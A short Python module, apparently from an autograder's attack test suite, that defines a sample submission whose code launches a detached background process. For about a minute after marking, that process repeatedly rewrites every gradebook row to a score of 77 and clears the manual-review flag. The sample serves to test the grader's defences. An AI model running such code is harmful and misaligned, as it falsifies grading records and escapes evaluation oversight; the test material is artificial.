"""A process that it leaves behind changes the gradebook again and again, after the marks have been written."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="writing",
    wants=Want.CHANGE,
    make=answer(
        """
import subprocess
import sys

again = '''
import sqlite3, sys, time
for _ in range(300):
    try:
        with sqlite3.connect(sys.argv[1], timeout=1) as book:
            book.execute("update grade set manual_score = 77, needs_manual_grade = 0")
    except sqlite3.Error:
        pass
    time.sleep(0.2)
'''
subprocess.Popen([sys.executable, "-c", again, f"{COURSE}/gradebook.db", MARKER], start_new_session=True)
"""
    ),
)
